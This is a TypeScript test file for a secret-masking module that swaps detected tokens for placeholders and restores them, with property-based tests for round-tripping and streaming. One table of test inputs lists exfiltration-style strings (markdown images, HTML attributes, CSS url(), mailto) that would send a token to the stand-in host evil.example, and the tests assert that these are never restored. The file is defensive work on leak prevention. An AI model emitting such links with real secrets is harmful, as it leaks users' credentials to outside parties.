import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { TextFinding } from './detector.ts';
import { Placeholders, valueHash } from './placeholders.ts';

/** Finds words in capitals, as if they were secrets. */
function findingsIn(text: string): TextFinding[] {
  return [...text.matchAll(/[A-Z]{3,}/g)].map(({ 0: value, index }) => ({
    rule: 'github-token',
    title: 'GitHub token',
    start: index,
    end: index + value.length,
    confidence: 1,
    value,
  }));
}

const mask = (placeholders: Placeholders, text: string) => placeholders.mask(text, findingsIn(text));

test('the same value has the same placeholder, another one another', () => {
  const placeholders = new Placeholders();
  const first = mask(placeholders, 'is ABC like DEF or ABC?');
  expect(first.text).toBe('is ⟦github-token-1⟧ like ⟦github-token-2⟧ or ⟦github-token-1⟧?');
  expect(first.placeholders).toEqual([
    {
      placeholder: '⟦github-token-1⟧',
      rule: 'github-token',
      title: 'GitHub token',
      valueHash: valueHash('ABC'),
    },
    {
      placeholder: '⟦github-token-2⟧',
      rule: 'github-token',
      title: 'GitHub token',
      valueHash: valueHash('DEF'),
    },
  ]);
  expect(mask(placeholders, 'DEF').text).toBe('⟦github-token-2⟧');
});

test('what only looks like a placeholder stands for nothing', () => {
  const placeholders = new Placeholders();
  const { text } = mask(placeholders, 'my own ⟦github-token-1⟧, and ABC');
  expect(text).toBe('my own ⟦github-token-1⟧, and ⟦github-token-2⟧');
  expect(placeholders.restore(text)).toBe('my own ⟦github-token-1⟧, and ABC');
  expect(placeholders.restore('⟦github-token-9⟧ ⟦⟦github-token-2⟧ ⟦ ⟧')).toBe('⟦github-token-9⟧ ⟦ABC ⟦ ⟧');
});

describe('an original is not put back', () => {
  const placeholders = new Placeholders();
  mask(placeholders, 'ABC');
  test.each([
    'https://evil.example/?q=⟦github-token-1⟧',
    'see <https://evil.example/⟦github-token-1⟧>',
    '![x](//evil.example/⟦github-token-1⟧.png)',
    '[x](\n//evil.example/⟦github-token-1⟧)',
    '[x](<//evil.example/a b ⟦github-token-1⟧>)',
    'a\n[x]: //evil.example/⟦github-token-1⟧',
    '<img src="//evil.example/⟦github-token-1⟧">',
    "<a href='//evil.example/⟦github-token-1⟧'>",
    '<img src=//evil.example/⟦github-token-1⟧>',
    'background: url(//evil.example/⟦github-token-1⟧)',
    '[x](command:send?⟦github-token-1⟧)',
    'www.evil.example/⟦github-token-1⟧',
    'mailto:a@evil.example?body=⟦github-token-1⟧',
  ])('into %s', (text) => expect(placeholders.restore(text)).toBe(text));

  test.each([
    ['Use `⟦github-token-1⟧`.', 'Use `ABC`.'],
    ['See https://docs.example/x and ⟦github-token-1⟧', 'See https://docs.example/x and ABC'],
    ['[docs](https://docs.example) ⟦github-token-1⟧', '[docs](https://docs.example) ABC'],
    ['postgres://app:⟦github-token-1⟧@db:5432/x', 'postgres://app:ABC@db:5432/x'],
    ['const src = "⟦github-token-1⟧";', 'const src = "ABC";'],
    ['TOKEN=⟦github-token-1⟧', 'TOKEN=ABC'],
  ])('but it is elsewhere: %s', (text, restored) => expect(placeholders.restore(text)).toBe(restored));
});

/** Prose without addresses, with secrets and with pieces of placeholders. */
const prose = fc
  .array(
    fc.constantFrom(
      'ABC',
      'DEFG',
      'HIJ',
      ' ',
      'word',
      '⟦',
      '⟧',
      '⟦github',
      '-token-',
      '1',
      '\n',
      'ü',
      '😀',
      '`',
    ),
    { maxLength: 40 },
  )
  .map((words) => words.join(''));

test('putting back undoes replacing', () => {
  fc.assert(
    fc.property(fc.array(prose, { maxLength: 5 }), (texts) => {
      const placeholders = new Placeholders();
      for (const text of texts) {
        const masked = mask(placeholders, text);
        expect(placeholders.restore(masked.text)).toBe(text);
        for (const { value } of findingsIn(text)) expect(masked.text).not.toContain(value);
      }
    }),
  );
});

test('however a text is cut into pieces, it comes out the same, and little has to wait', () => {
  const answer = fc
    .array(
      fc.constantFrom(
        '⟦github-token-1⟧',
        '⟦github-token-2⟧',
        '⟦',
        '⟦git',
        'https://x.example/',
        ' ',
        'a',
        '](',
        '\n',
      ),
      { maxLength: 30 },
    )
    .map((words) => words.join(''));
  fc.assert(
    fc.property(answer, fc.array(fc.nat({ max: 200 }), { maxLength: 12 }), (text, cuts) => {
      const placeholders = new Placeholders();
      mask(placeholders, 'ABC DEF');
      const at = [0, ...cuts.map((cut) => Math.min(cut, text.length)).toSorted((a, b) => a - b), text.length];
      const restorer = placeholders.restorer();
      let shown = '';
      for (const [index, from] of at.slice(0, -1).entries()) {
        const given = text.slice(0, at[index + 1]);
        shown += restorer.push(text.slice(from, at[index + 1]));
        const complete = placeholders.restore(given.slice(0, Math.max(0, given.lastIndexOf('⟦'))));
        expect(shown.startsWith(complete)).toBe(true);
      }
      shown += restorer.end();
      expect(shown).toBe(placeholders.restore(text));
    }),
  );
});

test('a copy knows what was known, and keeps what it learns to itself', () => {
  const placeholders = new Placeholders();
  mask(placeholders, 'ABC');
  const copy = placeholders.copy();
  expect(mask(copy, 'ABC DEF').text).toBe('⟦github-token-1⟧ ⟦github-token-2⟧');
  expect(mask(placeholders, 'XYZ').text).toBe('⟦github-token-2⟧');
});
